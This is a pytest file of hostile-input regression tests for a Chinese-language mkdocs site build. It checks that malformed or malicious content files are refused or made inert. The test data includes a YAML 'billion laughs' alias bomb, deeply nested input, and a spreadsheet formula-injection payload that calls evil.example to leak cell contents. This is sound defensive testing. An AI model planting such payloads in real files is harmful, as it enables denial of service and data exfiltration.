"""Issue 11's reproductions, one test per defect, as a careless or hostile contributor would
meet them: `python build.py check` and `mkdocs build --strict` in a project whose site was
built before. Each failing input must give a non-zero exit, no traceback, the content/ file
and line, and leave the previous site byte-identical. The rewritten messages are golden files
(tests/golden/hostile/*.txt, the whole report of `check`); UPDATE_GOLDEN=1 rewrites them.

Operational errors (output folder read-only, below a regular file, disk full) are in
tests/test_output.py; the property-based tests in tests/test_properties.py."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image

from conftest import FIXTURES, REPO, make_project, run_mkdocs_build

GOLDEN = Path(__file__).resolve().parent / "golden" / "hostile"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"
ANSI = re.compile(r"\x1b\[[0-9;]*m")
CASE = "content/workers/hostile.md"

WORKER = """---
name: 测试工人
summary: 一个测试用的工人。
city: river-city
{extra}---
{body}"""


def worker(extra: str = "", body: str = "正文。\n") -> dict[str, str]:
    """A worker file whose extra fields start on line 5."""
    return {CASE: WORKER.format(extra=extra, body=body)}


def billion_laughs() -> str:
    """The issue's 458-byte file: nine levels of nine aliases each, 387 million values."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]\n")
    return "".join(lines) + "tags: *i\n"


Change = dict[str, "str | bytes | Callable[[Path], None]"]


def nested_list() -> str:
    return "".join("  " * level + "- 层\n" for level in range(500))


def make_pipe(path: Path) -> None:
    os.mkfifo(path)


def symlink_loop(project: Path) -> None:
    (project / "images/loop").symlink_to("loop")


# name -> (changes, the location `check` and the build must name)
REFUSED: dict[str, tuple[Change, str]] = {
    "01-nested-list": (worker(body=nested_list()), f"{CASE}:56"),
    "01-long-tag": (worker(f"tags: [{'长' * 100}]\n"), f"{CASE}:5"),
    "02-billion-laughs": (worker(billion_laughs()), f"{CASE}:5"),
    "03-recursive-alias": (worker("tags: &a [x, *a]\n"), f"{CASE}:5"),
    "05-broken-link": (worker(body="见[旧链接](../cities/nowhere.md)。\n"), f"{CASE}:6"),
    "06-metrics-gbk": (
        {
            "content/metrics.yml": "skills-training:\n  label: 职业技能培训\n  unit: 人次\n".encode(
                "gbk"
            )
        },
        "content/metrics.yml:2",
    ),
    "06-metrics-second-document": (
        {"content/metrics.yml": "skills-training:\n  label: 职业技能培训\n  unit: 人次\n---\n"},
        "content/metrics.yml:4",
    ),
    "07-path-tags": (worker('tags: ["..", ".", index, .NET开发]\n'), f"{CASE}:5"),
    "08-control-characters": (worker('position: "测试\\x01\\x0b工人"\n'), f"{CASE}:5"),
    "10-named-pipe": ({"content/workers/pipe.md": make_pipe}, "content/workers/pipe.md"),
    "10-named-pipe-metrics": ({"content/metrics.yml": make_pipe}, "content/metrics.yml"),
    "12-remote-image": (worker(body="![x](https://evil.example/t.png)\n"), f"{CASE}:6"),
    "13-nul-byte": (worker("position: 炼钢\x00工\n"), f"{CASE}:5"),
    "13-indented-year": (
        worker("honors:\n  - title: 全国劳动模范\n     year: 2020\n"),
        f"{CASE}:7",
    ),
    "13-non-string-keys": (worker("2024-01-01: 元旦\nnull: 空\n"), f"{CASE}:5"),
    "13-honors-as-text": (worker("honors: [全国劳动模范]\n"), f"{CASE}:5"),
    "13-gallery-as-text": (worker("gallery: [river/plant.jpg]\n"), f"{CASE}:5"),
    "13-empty-tag": (worker('tags: [""]\n'), f"{CASE}:5"),
    "13-symlink-loop": (
        {
            **worker("gallery:\n  - src: loop/a.jpg\n    caption: 循环\n"),
            "images/loop": symlink_loop,
        },
        f"{CASE}:6",
    ),
}


def snapshot(site: Path) -> dict[str, str]:
    return {
        str(path.relative_to(site)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(site.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini corpus with `build.py`, its site built."""
    project = make_project(tmp_path_factory.mktemp("hostile") / "base", FIXTURES / "mini")
    shutil.copy(REPO / "build.py", project / "build.py")
    result = run_mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    return project


def apply(project: Path, changes: Change) -> None:
    for relative, change in changes.items():
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() and not path.is_symlink():
            path.unlink()
        if callable(change):
            change(path) if change is make_pipe else change(project)
        elif isinstance(change, bytes):
            path.write_bytes(change)
        else:
            path.write_text(change, encoding="utf-8")


@dataclass
class Attempt:
    check: subprocess.CompletedProcess[str]
    build: subprocess.CompletedProcess[str]
    site_before: dict[str, str]
    site_after: dict[str, str]

    @property
    def check_output(self) -> str:
        return ANSI.sub("", self.check.stdout + self.check.stderr)

    @property
    def build_output(self) -> str:
        return ANSI.sub("", self.build.stdout + self.build.stderr)

    @property
    def report(self) -> str:
        """What `check` says about errors (the lint warnings of the mini corpus left out)."""
        return self.check.stdout.split("\n另有 ")[0].rstrip("\n") + "\n"


def attempt(base: Path, target: Path, changes: Change) -> Attempt:
    shutil.copytree(base, target, symlinks=True)
    before = snapshot(target / "site")
    apply(target, changes)
    check = subprocess.run(
        [sys.executable, "build.py", "check"],
        cwd=target,
        capture_output=True,
        text=True,
        timeout=120,
    )
    build = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"],
        cwd=target,
        capture_output=True,
        text=True,
        timeout=300,
    )
    return Attempt(check, build, before, snapshot(target / "site"))


@pytest.fixture(scope="module")
def refused(base: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Attempt]:
    folder = tmp_path_factory.mktemp("refused")
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {
            name: pool.submit(attempt, base, folder / name, changes)
            for name, (changes, _) in REFUSED.items()
        }
        return {name: future.result() for name, future in futures.items()}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(REFUSED))
def test_refused_before_anything_is_written(refused: dict[str, Attempt], name: str) -> None:
    result = refused[name]
    location = REFUSED[name][1]
    assert result.check.returncode == 1, result.check_output
    assert "Traceback" not in result.check_output, result.check_output
    assert location in result.check.stdout, result.check_output
    golden = GOLDEN / f"{name}.txt"
    if UPDATE:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(result.report, encoding="utf-8")
    assert result.report == golden.read_text(encoding="utf-8")
    assert result.build.returncode != 0, result.build_output
    assert "Traceback" not in result.build_output, result.build_output
    assert location in result.build_output
    assert result.site_after == result.site_before, "the previous site was changed"


@pytest.mark.slow
def test_formula_cells_of_stats_csv_are_inert(base: Path, tmp_path: Path) -> None:
    """Defect 4: a name, stat label or unit starting with = + - @ was published as it was, in a
    file the site invites readers to open in a spreadsheet."""
    payload = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
    extra = (
        "stats:\n"
        f"  - label: '{payload}'\n    value: 400000\n    unit: '@SUM(1)'\n"
        "  - label: '+cmd'\n    value: 3人\n"
        "  - label: '-2+3'\n    value: 5\n    unit: '-元'\n"
    )
    project = tmp_path / "project"
    shutil.copytree(base, project, symlinks=True)
    apply(project, {CASE: WORKER.format(extra=extra, body="").replace("测试工人", '"@工人"')})
    result = run_mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    raw = (project / "site/data/stats.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    mine = [row for row in rows if row["id"] == "hostile"]
    assert [(r["name"], r["label"], r["unit"], r["amount"]) for r in mine] == [
        ("'@工人", "'" + payload, "'@SUM(1)", "400000"),
        ("'@工人", "'+cmd", "人", "3"),
        ("'@工人", "'-2+3", "'-元", "5"),
    ]
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
    # Every cell is quoted, so a spreadsheet splitting at ; or tab cannot start a new cell.
    assert all(line.startswith('"') for line in raw.decode("utf-8-sig").splitlines())
    # The same for the Chinese-headed stats-zh.csv, the one the site offers to spreadsheet users.
    raw_zh = (project / "site/data/stats-zh.csv").read_bytes().decode("utf-8-sig")
    rows_zh = list(csv.DictReader(io.StringIO(raw_zh)))
    mine_zh = [row for row in rows_zh if row["案例"] == "'@工人"]
    assert [(r["数据名称"], r["单位"], r["数量"]) for r in mine_zh] == [
        ("'" + payload, "'@SUM(1)", "400000"),
        ("'+cmd", "人", "3"),
        ("'-2+3", "'-元", "5"),
    ]
    for row in rows_zh:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(line.startswith('"') for line in raw_zh.splitlines())
    # The JSON is for programs: it keeps the text as written.
    records = json.loads((project / "site/data/cases.json").read_text(encoding="utf-8"))
    [record] = [r for r in records if r["id"] == "hostile"]
    assert record["name"] == "@工人" and record["stats"][0]["label"] == payload


@pytest.mark.slow
def test_the_feed_is_well_formed_whatever_the_names_hold(base: Path, tmp_path: Path) -> None:
    """Defect 8: control characters are refused (see REFUSED); everything else a name or
    summary may hold reaches the feed as well-formed XML."""
    name = "测试 <工人> & '引号' \"双引号\" \u2028 \u202e 😀"
    written = '"测试 <工人> & \'引号\' \\"双引号\\" \\u2028 \\u202e 😀"'  # YAML escapes
    extra = "updated: 2030-01-01\n"
    text = WORKER.format(extra=extra, body="").replace("测试工人", written)
    project = tmp_path / "project"
    shutil.copytree(base, project, symlinks=True)
    apply(project, {CASE: text})
    result = run_mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    feed = ET.parse(project / "site/feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [entry.findtext(f"{atom}title") for entry in feed.iter(f"{atom}entry")]
    assert titles[0] == name


@pytest.mark.slow
def test_a_truncated_cached_derivative_is_made_again(base: Path, tmp_path: Path) -> None:
    """Defect 11: a derivative in .cache/showcase/images cut short was published as it was."""
    project = tmp_path / "project"
    shutil.copytree(base, project, symlinks=True)
    cache = project / ".cache/showcase/images"
    manifest = json.loads((cache / "manifest.json").read_text(encoding="utf-8"))
    variant = next(
        v
        for entry in manifest["images"].values()
        for v in entry["variants"]
        if v["format"] == "webp"
    )
    damaged = cache / variant["filename"]
    damaged.write_bytes(damaged.read_bytes()[: variant["bytes"] // 2])
    result = run_mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    for path in (damaged, project / "site/assets/images" / variant["filename"]):
        assert path.stat().st_size == variant["bytes"], path
        with Image.open(path) as image:
            image.load()
            assert image.size == (variant["width"], variant["height"])


MEASURE = """
import resource, runpy, sys
limit = int(sys.argv[1])
if limit:
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
sys.argv = ["build.py", "check"]
try:
    runpy.run_path("build.py", run_name="__main__")
finally:
    with open("/proc/self/status") as status:
        peak = next(line for line in status if line.startswith("VmPeak:"))
    print("PEAK", int(peak.split()[1]) * 1024, file=sys.stderr)
"""
MB = 1024 * 1024
# name -> (changes, whether `check` refuses them)
HOSTILE_FILES: dict[str, tuple[Change, bool]] = {
    "billion laughs": (worker(billion_laughs()), True),
    "10,000 aliased values": (
        worker(
            "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
            "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
            "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
            "tags: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
        ),
        True,
    ),
    "recursive alias": (worker("tags: &a [x, *a]\n"), True),
    "100,000 nested brackets": (worker("tags: " + "[" * 100_000 + "]" * 100_000 + "\n"), True),
    "a megabyte of values": (worker("tags: [" + ",".join(["a"] * 480_000) + "]\n"), True),
    "a megabyte of body": (worker(body="[" * 990_000), True),
    "ten megabytes": (worker(body="字" * 3_500_000), True),
    # Valid, only long: names have no length limit in the contract.
    "a name of 330,000 characters": (
        {CASE: WORKER.format(extra="", body="").replace("测试工人", "长" * 330_000)},
        False,
    ),
}


def run_measured(project: Path, limit: int) -> tuple[subprocess.CompletedProcess[str], int]:
    result = subprocess.run(
        [sys.executable, "-c", MEASURE, str(limit)],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
    )
    peak = re.search(r"^PEAK (\d+)$", result.stderr, re.MULTILINE)
    assert peak, result.stderr[-3000:]
    return result, int(peak.group(1))


@pytest.mark.slow
def test_check_stays_within_200_mb_whatever_one_file_holds(base: Path, tmp_path: Path) -> None:
    """Defect 2: `check` reached 6 GiB in 59 s on a 458-byte file. Here it runs under an
    address-space limit 200 MB above its own peak on the valid corpus, for each hostile file."""
    project = tmp_path / "project"
    shutil.copytree(base, project, symlinks=True)
    clean, baseline = run_measured(project, 0)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    limit = baseline + 200 * MB
    for name, (changes, refused) in HOSTILE_FILES.items():
        apply(project, changes)
        result, peak = run_measured(project, limit)
        text = result.stdout + result.stderr
        assert result.returncode == (1 if refused else 0), (name, text[-3000:])
        assert "Traceback" not in text and "MemoryError" not in text, (name, text[-3000:])
        assert peak <= limit, (name, peak, limit)
        if refused:
            assert f"{CASE}:" in result.stdout, (name, text[-3000:])
            longest = max(len(line) for line in result.stdout.splitlines())
            assert longest < 600, (name, longest)  # messages quote at most a line of a value
